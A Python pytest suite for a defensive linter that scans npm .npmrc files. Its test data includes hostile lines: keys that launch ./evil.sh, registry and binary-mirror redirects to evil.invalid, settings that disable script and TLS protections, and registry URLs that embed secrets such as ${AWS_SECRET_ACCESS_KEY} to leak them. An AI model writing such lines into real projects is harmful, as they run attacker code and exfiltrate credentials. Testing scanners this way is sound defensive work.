"""A project's own .npmrc is not let do harm, and honest ones are quiet."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from safe_install.model import Severity
from safe_install.scan.lock.npmrc import lint_npmrc, parse_npmrc
from safe_install.scan.lock.npmrc_keys import EXECUTES, HARMLESS, REDIRECTS, WEAKENS
from tests.scan.npm_itself import npm_itself

REGISTRY = "https://registry.example.test/"


@settings(deadline=None)
@given(st.text(alphabet="ab=[]\"'\\;#${}?:/ \n\r\u2028", max_size=40))
def test_no_text_is_too_odd_to_be_read_and_judged(text: str) -> None:
    parse_npmrc(text, {"a": "b"})
    lint_npmrc(text)


# ------------------------------------------------------------------ the linter


def told(text: str) -> list[tuple[str, Severity, int]]:
    return [(finding.signature.removeprefix("npmrc/"), finding.severity, finding.line) for finding in lint_npmrc(text)]


def blocked(text: str) -> str | None:
    """Give the one signature that blocks."""
    blocking = [signature for signature, severity, _ in told(text) if severity is Severity.ERROR]
    assert len(blocking) < 2
    return blocking[0] if blocking else None


HONEST = """
save-exact=true
engine-strict = true
legacy-peer-deps=true
strict-peer-deps=false
fund=false
audit=false
package-lock=true
omit=dev
omit[]=optional
loglevel=warn
progress=false
save-prefix=~
prefer-offline=true
min-release-age=3
lockfile-version=3
install-strategy=hoisted
auto-install-peers=true
public-hoist-pattern[]=*eslint*
shamefully-hoist=true
node-linker=hoisted
ignore-scripts=true
strict-ssl=true
always-auth=true
init.author.name=Somebody
init-license=MIT
; registry=https://evil.invalid/
allow-git=none
//registry.example.test/:_authToken=${NPM_TOKEN}
//registry.example.test/:always-auth=true
//registry.example.test/:_password=${NPM_PASSWORD}
//registry.example.test/:username=somebody
"""


def test_what_honest_projects_commit_is_quiet() -> None:
    assert told(HONEST) == []


@pytest.mark.parametrize(
    "key", [*EXECUTES, "script_shell", "Script-Shell", '"git"', "'[\"git\"]'", "git[]", "init.module"]
)
def test_a_key_that_starts_programs_blocks(key: str) -> None:
    assert told(f"fund=false\n\n{key}=./evil.sh\n") == [("executes", Severity.ERROR, 3)]


@pytest.mark.parametrize(
    "key",
    [
        *REDIRECTS,
        "electron_mirror",
        "sharp_binary_host",
        "npm_config_canvas_binary_host_mirror",
        "chromedriver_cdnurl",
        "sass-binary-site",
    ],
)
def test_a_key_that_sends_requests_elsewhere_blocks(key: str) -> None:
    assert blocked(f"{key}=https://evil.invalid/") == "redirects"


@pytest.mark.parametrize(
    "line",
    [
        "ignore-scripts=false",
        "ignore-scripts=0",
        "ignore-scripts[]=false",
        "ignore-scripts=${CI}",
        'ignore-scripts="false"',
        "strict-ssl=false",
        "dangerously-allow-all-scripts",
        "dangerously-allow-all-scripts=true",
        "allow-scripts=esbuild",
        "allow-git=all",
        "allow-remote=root",
        "unsafe-perm=true",
        "ignore-extension=false",
    ],
)
def test_a_key_that_takes_a_protection_away_blocks(line: str) -> None:
    assert blocked(line) == "weakens"


@pytest.mark.parametrize(
    "line",
    [
        "ignore-scripts",
        "strict-ssl=1",
        "dangerously-allow-all-scripts=false",
        "allow-remote=none",
        "replace-registry-host=npmjs",
    ],
)
def test_the_same_key_with_the_safe_value_is_quiet(line: str) -> None:
    assert told(line) == []


@pytest.mark.parametrize(
    "line",
    [
        "registry=https://evil.invalid/${AWS_SECRET_ACCESS_KEY}/",
        "registry=https://${NPM_TOKEN}.evil.invalid/",
        "registry=${REGISTRY}",
        "@s:registry=https://evil.invalid/${HOME?}",
        "proxy=http://${HOME}.evil.invalid",
        "cafile=${HOME}/ca.pem",
        "anything=https://evil.invalid/?${HOME}",
    ],
)
def test_a_variable_in_an_address_blocks(line: str) -> None:
    assert blocked(line) == "secret-in-address"


@pytest.mark.parametrize(
    "line",
    [
        "script${NONE?}-shell=./evil.sh",
        "${WHICH}=x",
        "//h.example.test/${HOME}/:_authToken=x",
        "${A?}registry=https://x.example.test",
    ],
)
def test_a_key_that_depends_on_the_environment_blocks(line: str) -> None:
    assert blocked(line) == "variable-in-key"


def test_a_registry_of_the_projects_choice_is_told_and_does_not_block() -> None:
    text = f"registry={REGISTRY}\n@s:registry=http://localhost:4873/\n@t:registry=http://127.0.0.1:4873/"
    assert told(text) == [
        ("registry", Severity.INFO, 1),
        ("registry", Severity.INFO, 2),
        ("registry", Severity.INFO, 3),
    ]


def test_a_registry_without_encryption_is_a_warning() -> None:
    assert told("registry=http://registry.example.test/") == [("insecure-registry", Severity.WARNING, 1)]


@pytest.mark.parametrize(
    "value", ["", "registry.example.test", "file:///etc", "https://", "https://[", "javascript:x", "true"]
)
def test_a_registry_that_is_no_web_address_blocks(value: str) -> None:
    assert blocked(f"registry={value}") == "redirects"


def test_a_token_for_a_registry_that_only_the_project_chose_blocks() -> None:
    text = f"//registry.example.test/:_authToken=${{NPM_TOKEN}}\n@s:registry={REGISTRY}"
    assert told(text) == [("token-for-project-host", Severity.ERROR, 1), ("registry", Severity.INFO, 2)]
    known = lint_npmrc(text, known_hosts=["registry.example.test"])
    assert [finding.signature for finding in known] == ["npmrc/registry"]
    elsewhere = text.replace(REGISTRY, "https://other.example.test/")
    assert told(elsewhere) == [("registry", Severity.INFO, 2)]


@pytest.mark.parametrize(
    "name",
    [
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "ANTHROPIC_API_KEY",
        "OPENAI_KEY",
        "MY_API_KEY",
        "SSH_PRIVATE_KEY",
        "DATABASE_URL",
    ],
)
def test_a_secret_that_is_no_registrys_blocks_as_a_token(name: str) -> None:
    assert blocked(f"//registry.example.test/:_authToken=${{{name}}}") == "secret-for-registry"


@pytest.mark.parametrize(
    "name",
    ["NPM_TOKEN", "NODE_AUTH_TOKEN", "GITHUB_TOKEN", "FONTAWESOME_NPM_AUTH_TOKEN", "CODEARTIFACT_AUTH_TOKEN", "GH_PAT"],
)
def test_the_names_that_honest_projects_use_are_quiet(name: str) -> None:
    assert told(f"//registry.example.test/:_authToken=${{{name}}}") == []


def test_credentials_for_no_registry_are_a_warning() -> None:
    assert told("_authToken=${NPM_TOKEN}\n_auth=abc\nemail=a@b.example.test") == [
        ("unscoped-credential", Severity.WARNING, at) for at in (1, 2, 3)
    ]


@pytest.mark.parametrize(
    "line",
    [
        "//h.example.test/:_authToken=hunter2",
        "//h.example.test/:_auth=hunter2",
        "//h.example.test/:_password=hunter2",
        "//h.example.test/:_authToken=x${NPM_TOKEN}hunter2",
        "//h.example.test/:_authtoken=hunter2",
        "//h.example.test/:token=hunter2",
        "_authToken=hunter2",
        "_password=hunter2",
        "authToken=hunter2",
        "registry=https://me:hunter2@h.example.test/",
        "proxy=http://me:hunt@hunter2@h.example.test/",
        "https-proxy=me:hunter2@h.example.test",
        "key=-----BEGIN hunter2",
        "my-secret=hunter2",
        "[section]\n//h.example.test/:_authToken=hunter2",
        "git=https://me:hunter2@h.example.test/x",
        "registry=https://me:hunter2@h.example.test/${HOME}",
        "//h.example.test/${HOME}/:_authToken=hunter2",
        "'[\"_authToken\"]'=hunter2",
        "_authToken[]=hunter2",
    ],
)
def test_no_secret_is_ever_in_an_excerpt(line: str) -> None:
    findings = lint_npmrc(f"registry=https://h.example.test/\n{line}")
    assert len(findings) > 1
    assert not [finding for finding in findings if "hunter2" in finding.excerpt + finding.message]


def test_an_excerpt_shows_what_would_be_done_as_it_is_written() -> None:
    (finding,) = lint_npmrc("\ngit=./evil\x1b[2J.sh", name="sub/.npmrc")
    assert (finding.where, finding.path, finding.line, finding.excerpt) == (
        "sub/.npmrc",
        "sub/.npmrc",
        2,
        "git=./evil\x1b[2J.sh",
    )


def test_keys_that_npm_does_not_know_do_not_flag_a_project() -> None:
    assert told("electron-builder=x\n@s:always=1\nRegistry=x") == [
        ("unknown-key", Severity.INFO, at) for at in (1, 2, 3)
    ]


def test_what_stands_below_a_section_sets_nothing() -> None:
    assert told("[x]\ngit=./evil.sh") == [("section", Severity.WARNING, 2)]


def test_lines_are_counted_whatever_ends_them() -> None:
    assert [line for _, _, line in told("\r\n\r\ngit=x\n\nshell=x\r\reditor=x")] == [3, 5, 7]


@pytest.mark.npm
def test_every_key_that_npm_defines_is_known_exactly_once() -> None:
    (keys,) = npm_itself("scan/npm_readers.cjs", [""], "keys")
    plain = [key.replace(".", "-") for key in keys if key not in {"registry", "_auth"}]
    groups: list[Any] = [EXECUTES, REDIRECTS, WEAKENS, HARMLESS]
    assert [key for key in plain if sum(key in group for group in groups) != 1] == []
